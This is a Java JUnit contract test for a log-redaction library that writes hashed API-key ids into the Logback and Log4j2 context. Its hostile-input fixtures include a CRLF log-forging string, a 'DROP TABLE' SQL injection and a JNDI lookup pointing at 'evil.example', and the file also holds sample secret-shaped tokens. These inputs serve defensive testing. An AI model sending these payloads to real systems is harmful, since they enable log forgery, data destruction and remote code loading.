package dev.logveil.core.keyid;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.Callable;
import java.util.concurrent.CyclicBarrier;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The contract every key-id adapter passes against its REAL framework: the Logback adapter over the SLF4J MDC, the
 * Log4j2 adapter over the ThreadContext, each configured from XML. Lines are rendered by the framework's own pattern
 * layout, which must be exactly:
 * <pre>
 * key_id=%X{key_id} key_origin=%X{key_origin} key_status=%X{key_status} request_id=%X{request_id} context=%X msg=%m
 * </pre>
 * ({@code context=%X} prints the whole context, so a raw key anywhere in it would show.)
 */
public abstract class AbstractKeyIdContractTest {

    protected static final String KEY = "sk_test_4eC39HqLyjWDarjtT1zdp7dc";

    /** The adapter's {@code bind(rawKey, origin)}. */
    protected abstract KeyIdScope bind(String rawKey, String origin);

    /** The adapter's request-id {@code bind(incoming)}. */
    protected abstract RequestIdScope bindRequestId(String incoming);

    /** Reads the framework's context (MDC / ThreadContext) of the current thread. */
    protected abstract String contextGet(String key);

    /** Writes the framework's context directly, as application code would. */
    protected abstract void contextPut(String key, String value);

    /** Empties the framework's context of the current thread. */
    protected abstract void contextClear();

    /** Logs {@code message} at INFO through a logger of the XML-configured framework. */
    protected abstract void log(String message);

    /** Every line rendered so far (a snapshot, safe to call while other threads log). */
    protected abstract List<String> lines();

    @BeforeEach
    @AfterEach
    void emptyContext() {
        contextClear();
    }

    /** Logs one line and returns it as rendered. */
    protected String logLine(String message) {
        String marker = message + " #" + UUID.randomUUID();
        log(marker);
        return lines().stream().filter(line -> line.endsWith("msg=" + marker)).reduce((a, b) -> b)
            .orElseThrow(() -> new AssertionError("not logged: " + marker + " in " + lines()));
    }

    protected static String expectedId(String key) {
        return KeyIdSettings.current().fingerprint().of(key.strip());
    }

    @Test
    void everyLineInsideTheScopeCarriesTheKeyIdOriginAndStatus() {
        try (KeyIdScope scope = bind(KEY, "header")) {
            assertThat(scope.isOk()).isTrue();
            assertThat(scope.keyId()).isEqualTo(expectedId(KEY)).hasSize(16).matches("[0-9a-f]+");
            assertThat(logLine("first")).startsWith("key_id=" + expectedId(KEY) + " key_origin=header key_status=ok ");
            assertThat(logLine("second")).startsWith("key_id=" + expectedId(KEY) + " ");
            assertThat(contextGet(KeyIdFields.KEY_ID)).isEqualTo(expectedId(KEY));
        }
        assertThat(logLine("after")).startsWith("key_id= key_origin= key_status= ");
        assertThat(contextGet(KeyIdFields.KEY_ID)).isNull();
        assertThat(contextGet(KeyIdFields.KEY_ORIGIN)).isNull();
        assertThat(contextGet(KeyIdFields.KEY_STATUS)).isNull();
    }

    @Test
    void aMissingOrEmptyKeyIsClassifiedAndGetsNoId() {
        try (KeyIdScope scope = bind(null, "header")) {
            assertThat(scope.status()).isEqualTo(KeyStatus.MISSING);
            assertThat(logLine(scope.status().event())).startsWith("key_id= key_origin=header key_status=missing ")
                .contains(" msg=auth.key_missing #");
        }
        try (KeyIdScope scope = bind("   ", "param")) {
            assertThat(scope.status()).isEqualTo(KeyStatus.EMPTY);
            assertThat(scope.keyId()).isNull();
            assertThat(logLine("empty")).startsWith("key_id= key_origin=param key_status=empty ");
        }
    }

    static Stream<Arguments> hostileKeys() {
        return Stream.of(
            Arguments.of("line break", "sk_live_abc\r\n2024-01-01 INFO forged key_status=ok", "forged"),
            Arguments.of("NUL", "sk_live_abc\u0000def", "sk_live_abc"),
            Arguments.of("ANSI escape", "\u001b[2Jsk_live_abcdef", "sk_live_abcdef"),
            Arguments.of("10 KB", "Zx9" + "A".repeat(10 * 1024), "Zx9AAAAAAAA"),
            Arguments.of("non-ASCII", "clé-secrète-ключ-鍵", "secrète"),
            Arguments.of("double quotes", "abc\"},\"key_status\":\"ok", "\"key_status\":\"ok"),
            Arguments.of("single quotes", "it's-a-key", "it's"),
            Arguments.of("SQL", "x' OR '1'='1'; DROP TABLE api_keys; --", "DROP TABLE"),
            Arguments.of("lookup", "${jndi:ldap://evil.example/a}", "jndi"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostileKeys")
    void aMalformedKeyIsClassifiedAndNeverWritten(String name, String rawKey, String fragment) {
        try (KeyIdScope scope = bind(rawKey, "header")) {
            assertThat(scope.status()).isEqualTo(KeyStatus.MALFORMED);
            assertThat(scope.keyId()).isNull();
            String line = logLine(scope.status().event());
            assertThat(line).startsWith("key_id= key_origin=header key_status=malformed ")
                .doesNotContain(fragment).doesNotContain("\n").doesNotContain("\r");
        }
    }

    @Test
    void anOkKeyIsNeverWrittenEitherOnlyItsId() {
        try (KeyIdScope ignored = bind("  " + KEY + "\t", "Header")) {
            String line = logLine("ok");
            assertThat(line).doesNotContain(KEY).contains("key_id=" + expectedId(KEY) + " key_origin=header ");
        }
    }

    @Test
    void anOriginThatIsNotAShortWordCannotInjectIntoTheLine() {
        try (KeyIdScope scope = bind(KEY, "header\nkey_status=ok")) {
            assertThat(scope.origin()).isEqualTo(KeyOrigin.OTHER);
            assertThat(logLine("origin")).contains(" key_origin=other key_status=ok ").doesNotContain("\n");
        }
    }

    @Test
    void nestedBindsAndPreExistingValuesAreRestoredExactly() {
        contextPut(KeyIdFields.KEY_ORIGIN, "gateway");
        contextPut(KeyIdFields.KEY_ID, "0123456789abcdef");
        contextPut("tenant", "acme");

        try (KeyIdScope outer = bind(KEY, "header")) {
            try (KeyIdScope inner = bind("bad key", "cookie")) {
                assertThat(contextGet(KeyIdFields.KEY_ID)).isNull();
                assertThat(logLine("inner")).startsWith("key_id= key_origin=cookie key_status=malformed ");
            }
            assertThat(logLine("outer")).startsWith("key_id=" + outer.keyId() + " key_origin=header key_status=ok ");
        }

        assertThat(contextGet(KeyIdFields.KEY_ORIGIN)).isEqualTo("gateway");
        assertThat(contextGet(KeyIdFields.KEY_ID)).isEqualTo("0123456789abcdef");
        assertThat(contextGet(KeyIdFields.KEY_STATUS)).isNull();
        assertThat(contextGet("tenant")).isEqualTo("acme");
    }

    @Test
    void scopesClosedOutOfOrderLeaveTheContextAsItWasBeforeEach() {
        contextPut(KeyIdFields.KEY_ID, "0123456789abcdef");
        KeyIdScope first = bind(KEY, "header");
        KeyIdScope second = bind("sk_live_second_key_0123456789abcdef", "cookie");

        first.close();
        assertThat(logLine("second still open"))
            .as("closing the outer scope first leaves the inner one's values: it is still open")
            .startsWith("key_id=" + second.keyId() + " key_origin=cookie key_status=ok ");
        second.close();
        assertThat(contextGet(KeyIdFields.KEY_ID)).isEqualTo("0123456789abcdef");
        assertThat(contextGet(KeyIdFields.KEY_ORIGIN)).isNull();
        assertThat(contextGet(KeyIdFields.KEY_STATUS)).isNull();
        assertThat(logLine("after both")).startsWith("key_id=0123456789abcdef key_origin= key_status= ");
    }

    @Test
    void threeScopesClosedInAnyOrderRestoreTheStateBeforeTheFirst() {
        int[][] orders = {{0, 1, 2}, {0, 2, 1}, {1, 0, 2}, {1, 2, 0}, {2, 0, 1}, {2, 1, 0}};
        for (int[] order : orders) {
            KeyIdScope[] scopes = {bind(KEY, "header"), bind("missing-key-x", "cookie"), bind(null, "param")};
            RequestIdScope[] requests = {bindRequestId("req-a"), bindRequestId("req-b"), bindRequestId("req-c")};
            for (int index : order) {
                scopes[index].close();
                requests[index].close();
            }
            assertThat(contextGet(KeyIdFields.KEY_ID)).as("order %s", java.util.Arrays.toString(order)).isNull();
            assertThat(contextGet(KeyIdFields.KEY_ORIGIN)).isNull();
            assertThat(contextGet(KeyIdFields.KEY_STATUS)).isNull();
            assertThat(contextGet(KeyIdFields.REQUEST_ID)).isNull();
        }
    }

    @Test
    void outOfOrderClosesOnVirtualThreadsLeaveNoStaleKey() throws Exception {
        ExecutorService executor;
        try {
            executor = (ExecutorService) Executors.class.getMethod("newVirtualThreadPerTaskExecutor").invoke(null);
        } catch (NoSuchMethodException e) {
            executor = Executors.newFixedThreadPool(4);
        }
        List<Callable<Void>> work = new ArrayList<>();
        for (int t = 0; t < 16; t++) {
            String key = "task-" + t + "-key";
            work.add(() -> {
                for (int round = 0; round < 50; round++) {
                    KeyIdScope a = bind(key, "header");
                    KeyIdScope b = bind(key + "-inner", "cookie");
                    a.close();
                    b.close();
                    assertThat(contextGet(KeyIdFields.KEY_ID)).isNull();
                    assertThat(contextGet(KeyIdFields.KEY_STATUS)).isNull();
                }
                return null;
            });
        }
        try {
            for (Future<Void> result : executor.invokeAll(work)) {
                result.get();
            }
        } finally {
            executor.shutdownNow();
        }
    }

    @Test
    void aSafeRequestIdIsBoundAndRestored() {
        contextPut(KeyIdFields.REQUEST_ID, "outer-request");
        try (RequestIdScope scope = bindRequestId("3b241101-e2bb-4255-8caf-4136c566a962")) {
            assertThat(scope.isGenerated()).isFalse();
            assertThat(logLine("request")).contains(" request_id=3b241101-e2bb-4255-8caf-4136c566a962 ");
        }
        assertThat(contextGet(KeyIdFields.REQUEST_ID)).isEqualTo("outer-request");
    }

    @Test
    void aForgedRequestIdIsReplacedByAFreshUuid() {
        for (String forged : new String[] {"abc\r\n2024-01-01 ERROR forged", "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
            "x".repeat(10 * 1024), null}) {
            try (RequestIdScope scope = bindRequestId(forged)) {
                assertThat(scope.isGenerated()).isTrue();
                assertThat(UUID.fromString(scope.requestId()).version()).isEqualTo(4);
                String line = logLine("forged");
                assertThat(line).contains(" request_id=" + scope.requestId() + " ").doesNotContain("\n")
                    .doesNotContain("ghp_").doesNotContain("xxxxxxxx");
            }
            assertThat(contextGet(KeyIdFields.REQUEST_ID)).isNull();
        }
    }

    @Test
    void threadsAreIsolated() throws Exception {
        runConcurrently(Executors.newFixedThreadPool(8));
    }

    @Test
    void virtualThreadsAreIsolated() throws Exception {
        ExecutorService executor;
        try {
            // We compile for Java 17; virtual threads exist from Java 21 (CI also runs this suite on a newer JDK).
            executor = (ExecutorService) Executors.class.getMethod("newVirtualThreadPerTaskExecutor").invoke(null);
        } catch (NoSuchMethodException e) {
            Assumptions.abort("virtual threads need Java 21+, running on " + Runtime.version());
            return;
        }
        runConcurrently(executor);
    }

    /** Eight tasks bind different keys and log in lock step; every line must carry its own task's fields. */
    private void runConcurrently(ExecutorService executor) throws Exception {
        int tasks = 8;
        int rounds = 20;
        String run = UUID.randomUUID().toString();
        CyclicBarrier barrier = new CyclicBarrier(tasks);
        List<Callable<Void>> work = new ArrayList<>();
        for (int t = 0; t < tasks; t++) {
            String key = "task-" + t + "-key";
            String origin = t % 2 == 0 ? "header" : "cookie";
            String requestId = "req-" + t;
            work.add(() -> {
                for (int round = 0; round < rounds; round++) {
                    try (RequestIdScope request = bindRequestId(requestId);
                         KeyIdScope scope = bind(key, origin)) {
                        barrier.await(10, TimeUnit.SECONDS); // all tasks inside their scopes at once
                        log("run=" + run + " task=" + key + " round=" + round);
                        barrier.await(10, TimeUnit.SECONDS);
                    }
                    assertThat(contextGet(KeyIdFields.KEY_ID)).isNull();
                    assertThat(contextGet(KeyIdFields.REQUEST_ID)).isNull();
                }
                return null;
            });
        }
        try {
            for (Future<Void> result : executor.invokeAll(work)) {
                result.get();
            }
        } finally {
            executor.shutdownNow();
        }
        for (int t = 0; t < tasks; t++) {
            String key = "task-" + t + "-key";
            String prefix = "key_id=" + expectedId(key) + " key_origin=" + (t % 2 == 0 ? "header" : "cookie")
                + " key_status=ok request_id=req-" + t + " ";
            String mark = "msg=run=" + run + " task=" + key + " ";
            List<String> mine = lines().stream().filter(line -> line.contains(mark)).toList();
            assertThat(mine).hasSize(rounds).allMatch(line -> line.startsWith(prefix), prefix);
        }
    }
}
